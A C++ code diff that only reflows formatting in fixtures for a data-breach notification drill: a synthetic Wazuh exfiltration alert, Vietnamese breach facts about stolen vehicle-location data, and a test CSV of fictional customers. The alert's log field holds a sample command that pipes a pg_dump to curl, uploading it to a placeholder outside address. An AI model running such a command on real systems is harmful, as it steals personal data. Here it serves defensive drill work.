@@ -34,34 +34,42 @@ DrillTarget drill_target(const Settings& settings) {
 }
 
 std::string wazuh_alert(const DrillTarget& target, Instant at) {
-    json::object alert{
-        {"timestamp", wazuh_time(at)},
-        {"rule",
-         {{"level", 14},
-          {"description", "Data exfiltration: database dump copied to an outside address"},
-          {"id", "100214"},
-          {"mitre", {{"id", {"T1048"}}, {"tactic", {"Exfiltration"}}, {"technique", {"Exfiltration Over Alternative Protocol"}}}},
-          {"firedtimes", 1},
-          {"groups", {"local", "database", "exfiltration"}}}},
-        {"agent", {{"id", "007"}, {"name", target.host}, {"ip", "192.0.2.7"}}},
-        {"manager", {{"name", "siem-1"}}},
-        {"id", fmt::format("{}.4711", to_ms(at) / 1000)},
-        {"full_log", "pg_dump tracking | curl -T - https://203.0.113.66/drop"},
-        {"decoder", {{"name", "pg-audit"}}},
-        {"data", {{"srcuser", "svc_report"}, {"dstip", "192.0.2.7"}, {"table", "tracking.positions"}}},
-        {"location", "/var/log/postgresql/audit.log"}};
+    json::object alert{{"timestamp", wazuh_time(at)},
+                       {"rule",
+                        {{"level", 14},
+                         {"description", "Data exfiltration: database dump copied to an outside address"},
+                         {"id", "100214"},
+                         {"mitre",
+                          {{"id", {"T1048"}},
+                           {"tactic", {"Exfiltration"}},
+                           {"technique", {"Exfiltration Over Alternative Protocol"}}}},
+                         {"firedtimes", 1},
+                         {"groups", {"local", "database", "exfiltration"}}}},
+                       {"agent", {{"id", "007"}, {"name", target.host}, {"ip", "192.0.2.7"}}},
+                       {"manager", {{"name", "siem-1"}}},
+                       {"id", fmt::format("{}.4711", to_ms(at) / 1000)},
+                       {"full_log", "pg_dump tracking | curl -T - https://203.0.113.66/drop"},
+                       {"decoder", {{"name", "pg-audit"}}},
+                       {"data", {{"srcuser", "svc_report"}, {"dstip", "192.0.2.7"}, {"table", "tracking.positions"}}},
+                       {"location", "/var/log/postgresql/audit.log"}};
     return json::serialize(alert);
 }
 
 json::object drill_facts(std::int64_t subjects) {
     return {
         {"place", "Trung tâm dữ liệu Ví Dụ, Hà Nội"},
-        {"description", "Tài khoản dịch vụ svc_report bị chiếm dụng để sao chép bảng vị trí phương tiện ra ngoài hệ thống."},
+        {"description",
+         "Tài khoản dịch vụ svc_report bị chiếm dụng để sao chép bảng vị trí phương tiện ra ngoài hệ thống."},
         {"detected_how", "Cảnh báo của hệ thống giám sát an ninh (SIEM) về việc sao chép cơ sở dữ liệu ra ngoài."},
         {"consequences", "Người ngoài có thể biết nơi ở, nơi làm việc và thói quen đi lại của chủ thể dữ liệu."},
-        {"severity_and_risks", "Mức độ cao: dữ liệu vị trí có thể bị dùng để theo dõi, quấy rối hoặc lừa đảo chủ thể dữ liệu."},
-        {"measures", "Đã khóa tài khoản, chặn địa chỉ đích, thu hồi khóa truy cập; đang rà soát nhật ký; sẽ mã hóa bảng vị trí và siết quyền đọc."},
-        {"guidance", "Cảnh giác với cuộc gọi, tin nhắn lạ nhắc đến nơi bạn thường lui tới; đổi mật khẩu; báo cho chúng tôi khi có dấu hiệu bất thường."},
+        {"severity_and_risks",
+         "Mức độ cao: dữ liệu vị trí có thể bị dùng để theo dõi, quấy rối hoặc lừa đảo chủ thể dữ liệu."},
+        {"measures",
+         "Đã khóa tài khoản, chặn địa chỉ đích, thu hồi khóa truy cập; đang rà soát nhật ký; sẽ mã hóa bảng vị trí và "
+         "siết quyền đọc."},
+        {"guidance",
+         "Cảnh giác với cuộc gọi, tin nhắn lạ nhắc đến nơi bạn thường lui tới; đổi mật khẩu; báo cho chúng tôi khi có "
+         "dấu hiệu bất thường."},
         {"parties", json::array{"Công ty Cổ phần Ví Dụ (bên kiểm soát dữ liệu)"}},
         {"kinds", json::array{json::object{{"kind", "location"}, {"records", subjects * 30}, {"subjects", subjects}}}},
     };
@@ -76,11 +84,12 @@ std::string subjects_csv() {
         std::string email = has_mail ? fmt::format("khach{:02}@hopthu.test", i) : "";
         std::string phone = has_phone ? fmt::format("09000001{:02}", i) : "";
         if (i == 3 || i == 11) email = fmt::format("{}-{}@hopthu.test", kBadMailbox, i);
-        if (i == 38) email = "không phải địa chỉ";          // no address at all
+        if (i == 38) email = "không phải địa chỉ";                              // no address at all
         if (i == 39) email = fmt::format("{}-{}@hopthu.test", kBadMailbox, i);  // refused by the mail server
-        if (i == 40) phone = "12345";                         // no telephone number
-        out += fmt::format("KH-{:04},{} Thử {},{},{},,,{},\n", i, kFamily[static_cast<std::size_t>(i) % kFamily.size()],
-                           kGiven[static_cast<std::size_t>(i) % kGiven.size()], email, phone, i % 10 == 0 ? "en" : "vi");
+        if (i == 40) phone = "12345";                                           // no telephone number
+        out +=
+            fmt::format("KH-{:04},{} Thử {},{},{},,,{},\n", i, kFamily[static_cast<std::size_t>(i) % kFamily.size()],
+                        kGiven[static_cast<std::size_t>(i) % kGiven.size()], email, phone, i % 10 == 0 ? "en" : "vi");
     }
     return out;
 }
